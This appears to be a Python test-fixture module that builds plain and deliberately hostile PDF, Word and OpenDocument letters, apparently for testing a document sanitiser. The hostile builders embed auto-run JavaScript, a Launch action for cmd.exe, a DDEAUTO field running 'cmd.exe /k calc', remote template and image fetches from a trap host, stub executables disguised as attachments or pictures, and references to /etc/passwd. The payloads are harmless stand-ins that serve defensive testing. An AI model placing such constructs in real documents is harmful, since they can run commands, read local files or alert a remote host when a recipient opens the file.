"""Documents to send: PDFs, Word and OpenDocument letters, harmless and hostile, made in code."""

import zipfile
import zlib
from collections.abc import Mapping
from io import BytesIO

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String

from tests.support.samples import PLACE, jpeg, telling_png

AUTHOR = "Sam Hidden-Name"
SCRIPT = "app.alert('hidden script')"
TRAP = "http://trap.example/secret"


def pdf(pages: int = 2, encryption: pikepdf.Encryption | None = None) -> bytes:
    """A plain PDF with a line of text on each page."""
    made = Pdf.new()
    for number in range(pages):
        page = made.add_blank_page(page_size=(300, 200))
        page.Contents = Stream(made, f"BT /F1 12 Tf 20 100 Td (Damp in room {number + 1}) Tj ET".encode())
        font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
        page.Resources = Dictionary(Font=Dictionary(F1=font))
    packed = BytesIO()
    made.save(packed, encryption=encryption or False)
    return packed.getvalue()


def hostile_pdf() -> bytes:
    """Everything that a PDF can do to its reader or tell about its writer, with two honest pages."""
    made = Pdf.open(BytesIO(pdf()))
    act = Dictionary(S=Name.JavaScript, JS=String(SCRIPT))
    launch = Dictionary(
        S=Name.Launch, F=String("cmd.exe"), Next=Dictionary(S=Name.JavaScript, JS=String(SCRIPT))
    )
    link = Dictionary(S=Name.URI, URI=String(TRAP))
    root = made.Root
    root.OpenAction = made.make_indirect(act)
    root.AA = Dictionary(WC=act)
    root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), act])))
    root.AcroForm = Dictionary(
        Fields=Array([made.make_indirect(Dictionary(FT=Name.Tx, T=String("t"), AA=Dictionary(K=act)))]),
        XFA=made.make_stream(b"<xdp>" + SCRIPT.encode() + b"</xdp>"),
    )
    root.PieceInfo = Dictionary(Any=Dictionary(Private=String(PLACE)))
    made.attachments["payload.exe"] = b"MZ hidden attachment"
    file_stream = made.make_stream(b"MZ hidden annotation file")
    spec = Dictionary(Type=Name.Filespec, F=String("x.exe"), EF=Dictionary(F=file_stream))
    notes = [
        Dictionary(Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]), FS=spec),
        Dictionary(Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=link),
        Dictionary(Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=launch),
        Dictionary(Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), PA=link),
        Dictionary(
            Subtype=Name.RichMedia, Rect=Array([0, 0, 9, 9]), RichMediaContent=Dictionary(X=file_stream)
        ),
        Dictionary(Subtype=Name.Text, Rect=Array([0, 0, 9, 9]), Contents=String("An honest remark")),
    ]
    page = made.pages[0].obj
    for note in notes:
        note.Type = Name.Annot
    page.Annots = Array([made.make_indirect(note) for note in notes])
    page.AA = Dictionary(O=act)
    # A corner that no usual walk visits: an action inside a list inside private data of a resource.
    page.Resources.Hidden = Array(
        [Dictionary(Deep=Array([Dictionary(S=Name.JavaScript, JS=String(SCRIPT))]))]
    )
    photo = made.make_stream(jpeg(64, 64))
    photo.Type, photo.Subtype, photo.Filter = Name.XObject, Name.Image, Name.DCTDecode
    photo.Width, photo.Height, photo.ColorSpace, photo.BitsPerComponent = 64, 64, Name.DeviceRGB, 8
    photo.Metadata = made.make_stream(PLACE.encode())
    page.Resources.XObject = Dictionary(Im1=photo)
    twice = made.make_stream(zlib.compress(jpeg(64, 64)))
    twice.Type, twice.Subtype = Name.XObject, Name.Image
    twice.Filter = Array([Name.FlateDecode, Name.DCTDecode])
    twice.DecodeParms = Array([Dictionary(), Dictionary(ColorTransform=1)])
    twice.Width, twice.Height, twice.ColorSpace, twice.BitsPerComponent = 64, 64, Name.DeviceRGB, 8
    page.Resources.XObject.Im3 = twice
    outside = made.make_stream(b"")
    outside.F, outside.Type = String("/etc/passwd"), Name.XObject
    page.Resources.XObject.Im2 = outside
    made.docinfo[Name.Author] = AUTHOR
    with made.open_metadata() as metadata:
        metadata["dc:creator"] = [AUTHOR]
    packed = BytesIO()
    made.save(packed)
    return packed.getvalue()


def locked_pdf(user: str) -> bytes:
    """A PDF with a password; with an empty `user` it opens for everybody but forbids printing."""
    return pdf(encryption=pikepdf.Encryption(user=user, owner="owner"))


def zipped(parts: Mapping[str, bytes | str]) -> bytes:
    packed = BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as package:
        for name, body in parts.items():
            package.writestr(name, body)
    return packed.getvalue()


_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
_O = 'xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:v="urn:schemas-microsoft-com:vml"'
_A = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "application/vnd.openxmlformats-package"
_WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml"


def relations(*entries: tuple[str, str, str, bool]) -> str:
    """A .rels part from (id, type, target, external)."""
    lines = []
    for name, kind, target, external in entries:
        mode = ' TargetMode="External"' if external else ""
        lines.append(f'<Relationship Id="{name}" Type="{_REL}/{kind}" Target="{target}"{mode}/>')
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    return f'<Relationships xmlns="{space}">{"".join(lines)}</Relationships>'


def docx_parts(body: str = "<w:p><w:r><w:t>The damp is back.</w:t></w:r></w:p>") -> dict[str, bytes | str]:
    """The parts of a plain Word letter."""
    return {
        "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="jpeg" ContentType="image/jpeg"/>'
        '<Default Extension="png" ContentType="image/png"/>'
        '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'
        f'<Override PartName="/word/document.xml" ContentType="{_WORD}.document.main+xml"/>'
        f'<Override PartName="/word/settings.xml" ContentType="{_WORD}.settings+xml"/>'
        f'<Override PartName="/docProps/core.xml" ContentType="{_PACKAGE}.core-properties+xml"/>'
        "</Types>",
        "_rels/.rels": relations(
            ("rId1", "officeDocument", "word/document.xml", False),
            ("rId2", "metadata/core-properties", "docProps/core.xml", False),
        ),
        "docProps/core.xml": f"<core><creator>{AUTHOR}</creator></core>",
        "word/document.xml": f"<w:document {_W} {_R} {_O} {_A}><w:body>{body}</w:body></w:document>",
        "word/settings.xml": f"<w:settings {_W} {_R}>"
        '<w:attachedTemplate r:id="rId1"/><w:zoom w:percent="90"/></w:settings>',
    }


def hostile_docx() -> bytes:
    """A Word letter that fetches, embeds, runs fields and tells on its writer, with two honest sentences."""
    parts = docx_parts(
        "<w:p><w:r><w:t>The damp is back.</w:t></w:r></w:p>"
        '<w:p><w:hyperlink r:id="rId1"><w:r><w:t>My words in a link.</w:t></w:r></w:hyperlink></w:p>'
        '<w:p><w:r><w:object><o:OLEObject ProgID="Package" r:id="rId2"/></w:object></w:r></w:p>'
        '<w:p><w:r><w:drawing><a:blip r:embed="rId3" r:link="rId4"/></w:drawing></w:r></w:p>'
        '<w:p><w:r><w:drawing><a:blip r:embed="rId6"/></w:drawing></w:r></w:p>'
        '<w:altChunk r:id="rId5"/>'
        f'<w:p><w:r><w:pict><v:shape href="{TRAP}"><v:imagedata src="{TRAP}"/></v:shape></w:pict></w:r></w:p>'
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/>'
        '<w:instrText> DDEAUTO c:\\\\cmd.exe "/k calc" </w:instrText></w:r></w:p>'
        "<w:p><w:r><w:instrText>INCLUDE</w:instrText></w:r>"
        '<w:r><w:instrText>PICTURE "http://x"</w:instrText></w:r></w:p>'
        '<w:p><w:r><w:instrText xml:space="preserve"> PAGE \\* MERGEFORMAT </w:instrText></w:r></w:p>'
        f"<w:p><w:fldSimple w:instr=' INCLUDEPICTURE \"{TRAP}\" '>"
        "<w:r><w:t>Old field.</w:t></w:r></w:fldSimple></w:p>"
    )
    parts["word/_rels/document.xml.rels"] = relations(
        ("rId1", "hyperlink", TRAP, True),
        ("rId2", "oleObject", "embeddings/oleObject1.bin", False),
        ("rId3", "image", "media/image1.jpeg", False),
        ("rId4", "image", TRAP + ".png", True),
        ("rId5", "aFChunk", "/word/afchunk.html", False),
        ("rId6", "image", "media/image2.png", False),
        ("rId7", "image", "media/image3.jpeg", False),
        ("rId8", "settings", "settings.xml", False),
    )
    parts["word/_rels/settings.xml.rels"] = relations(("rId1", "attachedTemplate", TRAP + ".dotm", True))
    parts["word/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0hidden payload"
    parts["word/afchunk.html"] = "<script>alert(1)</script>"
    parts["word/media/image1.jpeg"] = jpeg(80, 60)
    parts["word/media/image2.png"] = telling_png()
    parts["word/media/image3.jpeg"] = b"MZ hidden program called a picture"
    parts["customXml/item1.xml"] = f"<x>{AUTHOR}</x>"
    return zipped(parts)


def odt_parts(body: str = "<text:p>The damp is back.</text:p>") -> dict[str, bytes | str]:
    """The parts of a plain OpenDocument letter."""
    spaces = " ".join(
        f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"'
        for name in ("office", "text", "draw", "script", "config")
    )
    return {
        "mimetype": "application/vnd.oasis.opendocument.text",
        "content.xml": f'<office:document-content {spaces} xmlns:xlink="http://www.w3.org/1999/xlink">'
        "<office:body>"
        f"<office:text>{body}</office:text></office:body></office:document-content>",
        "meta.xml": f"<meta>{AUTHOR}</meta>",
        "META-INF/manifest.xml": '<m:manifest xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>',
    }


def hostile_odt() -> bytes:
    """An OpenDocument letter that fetches, embeds and tells on its writer, with two honest sentences."""
    parts = odt_parts(
        '<office:scripts><office:event-listeners><script:event-listener script:event-name="dom:load"'
        f' xlink:href="vnd.sun.star.script:x"/></office:event-listeners></office:scripts>'
        "<text:p>The damp is back.</text:p>"
        f'<text:p>Before <text:a xlink:href="{TRAP}">my words in a link</text:a> after.</text:p>'
        f'<draw:frame><draw:image xlink:href="{TRAP}"/></draw:frame>'
        '<draw:frame><draw:image xlink:href="Pictures/one.jpg"/></draw:frame>'
        '<draw:frame><draw:object-ole xlink:href="./Object 1"/></draw:frame>'
        f'<text:section><text:section-source xlink:href="file:///etc/passwd"/></text:section>'
    )
    parts["settings.xml"] = (
        '<s xmlns:config="urn:oasis:names:tc:opendocument:xmlns:config:1.0">'
        f'<config:config-item config:name="PrinterName">{AUTHOR}</config:config-item></s>'
    )
    parts["Pictures/one.jpg"] = jpeg(80, 60)
    parts["Object 1"] = b"\xd0\xcf\x11\xe0hidden payload"
    parts["Thumbnails/thumbnail.png"] = telling_png()
    return zipped(parts)
